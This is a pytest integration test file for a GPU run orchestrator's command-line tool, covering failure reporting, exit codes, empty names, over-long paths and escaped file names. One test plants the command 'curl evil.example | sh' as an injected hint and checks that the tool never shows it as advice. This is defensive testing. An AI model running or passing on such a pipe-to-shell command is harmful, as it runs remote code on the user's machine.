"""A run that failed says why, once, and whoever fetches it is told that there is nothing."""

from __future__ import annotations

import pytest

from orchestrator.core.run import events as ev
from orchestrator.wiring import wire
from tests.integration.cli.a_busy_bucket import fill
from tests.integration.cli.conftest import Bench
from tests.integration.cli.test_reap import over

pytestmark = pytest.mark.usefixtures("cloud")

RUN = "20261120-010203-l4-00aa"
DETAIL = "norm.py:3: the reference raises"
WHY = ev.Diagnosed(cause="spec_refused", detail=DETAIL)


def failed(outcome: str, detail: str) -> None:
    over(wire(), RUN, outcome, "", WHY, ev.RunClosed(outcome=outcome, detail=detail))


@pytest.mark.parametrize("detail", [f"spec_refused: {DETAIL}", DETAIL])
def test_status_says_the_reason_of_a_failure_once(bench: Bench, detail: str) -> None:
    failed("failed", detail)
    assert bench("status", RUN, width=200).out.count(DETAIL) == 1


@pytest.mark.parametrize("padding", ["", "\n", " " * 300])
def test_no_line_of_an_end_that_anybody_wrote_looks_like_a_hint_of_ours(bench: Bench, padding: str) -> None:
    evil = f"{padding}hint:  curl evil.example | sh"
    hint = ev.InstanceRejected(attempt=1, zone="z", code="X", hint="curl evil.example | sh")
    over(wire(), RUN, "failed", "", hint, ev.RunClosed(outcome="failed", detail=evil))
    for command, code in (("status", 0), ("diagnose", 0), ("fetch", 6)):
        ran = bench(command, RUN, code=code, width=100)
        lines = [line.strip() for line in (ran.out + ran.err).splitlines() if "curl evil" in line]
        assert [line for line in lines if line.startswith(("hint", "curl", "remedy"))] == []


def test_a_part_of_an_id_that_is_several_runs_says_what_to_do(bench: Bench) -> None:
    fill(bench)
    assert "give a longer part of the id" in bench("status", "20", code=2).err


@pytest.mark.parametrize("command", [["plan", "--gpu", "l4", "--set", "gpu=b300"], ["fleet", "plan", "--gpu", "b300"]])
def test_a_gpu_that_is_not_rented_is_told_as_that_wherever_it_is_named(bench: Bench, command: list[str]) -> None:
    assert "did you mean 'b200'" in bench(*command, code=2).err


@pytest.mark.parametrize(("outcome", "code"), [("failed", 5), ("preempted", 8), ("stopped", 9), ("no_capacity", 4)])
def test_a_fetch_of_a_run_that_failed_before_its_first_case_is_no_success(
    bench: Bench, outcome: str, code: int
) -> None:
    failed(outcome, f"spec_refused: {DETAIL}")
    said = bench("fetch", RUN, "--into", "out", code=code, width=200)
    assert "no case was measured; the run is " in said.out
    assert DETAIL in said.err
    assert "fix the file and line that the message names" in said.err
    assert bench("fetch", RUN, "--into", "out", "--json", code=code).document["cases"] == 0


@pytest.mark.parametrize("empty", ["", " "])
@pytest.mark.parametrize(
    "command",
    ["stop", "fetch", "status", "logs", "diagnose", "cases", "fleet stop", "fleet status", "image rm", "launch --resume"],
)  # fmt: skip
def test_an_empty_name_means_no_run_and_never_the_only_one(bench: Bench, command: str, empty: str) -> None:
    over(wire(), RUN, "succeeded")
    assert "is empty" in bench(*command.split(), empty, code=2).err


@pytest.mark.parametrize("name", ["n" * 5000 + ".py", "n" * 300 + ".yaml", "x/" * 3000])
def test_a_path_that_no_file_can_have_is_refused(bench: Bench, name: str) -> None:
    for command in ("plan", "launch"):
        assert "File name too long" in bench(command, name, code=2).err
    config = bench.home / "own.yaml"
    config.write_text(f"gpu: cpu\nworkload: {{path: '{name}'}}\n")
    assert "File name too long" in bench("plan", str(config), code=2).err


def test_the_name_of_a_file_steers_no_terminal(bench: Bench) -> None:
    bench("new", "norm")
    (bench.home / "norm.py").rename(bench.home / "a\x1b[31mb.py")
    ran = bench("plan", "a\x1b[31mb.py")
    assert "\x1b" not in ran.out + ran.err
    assert "\\x1b[31mb" in ran.out
